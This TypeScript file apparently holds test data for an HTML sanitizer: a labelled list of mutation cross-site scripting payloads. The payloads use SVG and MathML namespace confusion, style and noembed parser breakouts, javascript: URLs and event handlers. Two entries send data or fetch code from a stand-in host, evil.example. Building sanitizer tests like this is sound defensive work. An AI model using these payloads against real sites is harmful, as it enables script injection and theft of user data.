import type { Payload } from "./payload.ts";

/** What changed its meaning when it was parsed twice, and passed through sanitizers so. */
export const MUTATIONS: readonly Payload[] = [
  ["SVG", "<svg onload=alert(1)>"],
  ["SVG with a script", "<svg><script>alert(1)</script></svg>"],
  [
    "SVG with a script of its own kind",
    '<svg><script href="data:text/javascript,alert(1)"/></svg>',
  ],
  [
    "SVG with an animation",
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">a</text></a></svg>',
  ],
  ["SVG that sets a handler", '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'],
  [
    "SVG with a foreign object",
    "<svg><foreignObject><iframe srcdoc='<script>parent.alert(1)</script>'></iframe></foreignObject></svg>",
  ],
  [
    "SVG that uses another one",
    `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#a"/></svg>`,
  ],
  ["SVG with a picture", '<svg><image href="https://evil.example/?q=secret"/></svg>'],
  ["SVG with a style", "<svg><style>@import 'https://evil.example/a.css';</style></svg>"],
  ["MathML", '<math href="javascript:alert(1)"><mtext>a</mtext></math>'],
  [
    "MathML with an action",
    '<math><maction actiontype="statusline#https://evil.example/" xlink:href="javascript:alert(1)">a</maction></math>',
  ],
  [
    "style in MathML",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  ["style in SVG", '<svg><p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  [
    "form in a table",
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
  ],
  [
    "table in a select",
    "<select><table><tr><td><style></select><img src=x onerror=alert(1)></style>",
  ],
  ["noembed in MathML", "<math><mi><xmp></math><img src=x onerror=alert(1)></xmp>"],
  ["text path in a title", "<svg></p><title><style></title><img src=x onerror=alert(1)></style>"],
  [
    "annotation",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  ],
  [
    "many in each other",
    `${"<div>".repeat(600)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=alert(1)>">`,
  ],
  ["font in SVG", '<svg><font color="</svg><img src=x onerror=alert(1)>"></font>'],
  [
    "attribute of a namespace",
    '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><rect width="9" height="9"/></a></svg>',
  ],
  ["is", '<button is="x" onclick=alert(1)>a</button>'],
  ["slot", "<slot onslotchange=alert(1)><p>a</p></slot>"],
];
